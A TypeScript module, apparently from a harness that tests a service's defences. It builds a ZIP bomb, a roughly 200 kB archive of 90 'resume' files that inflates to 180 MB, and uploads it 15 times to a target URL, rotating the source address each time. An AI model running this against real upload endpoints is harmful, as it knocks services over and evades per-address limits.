import { zipSync } from 'fflate';
import { type Attack, nextAddress, repeat } from '../attack.ts';
import { upload } from '../http.ts';

const FILES = 90;
const FILE_BYTES = 2 * 1024 * 1024;

export const zip: Attack = {
  description: 'fifteen ZIP archives at a time, each 200 kB that inflate to 180 MB',
  prepare: async () => {
    const text = new Uint8Array(FILE_BYTES).fill(0x20);
    return zipSync(Object.fromEntries(Array.from({ length: FILES }, (_, at) => [`resume-${at}.txt`, text])));
  },
  run: ({ url, token }, bytes) =>
    repeat(15, (turn) =>
      upload(
        url,
        [{ name: `resumes-${turn}.zip`, bytes: bytes as Uint8Array }],
        {},
        {
          token,
          address: nextAddress(),
        },
      ),
    ),
};
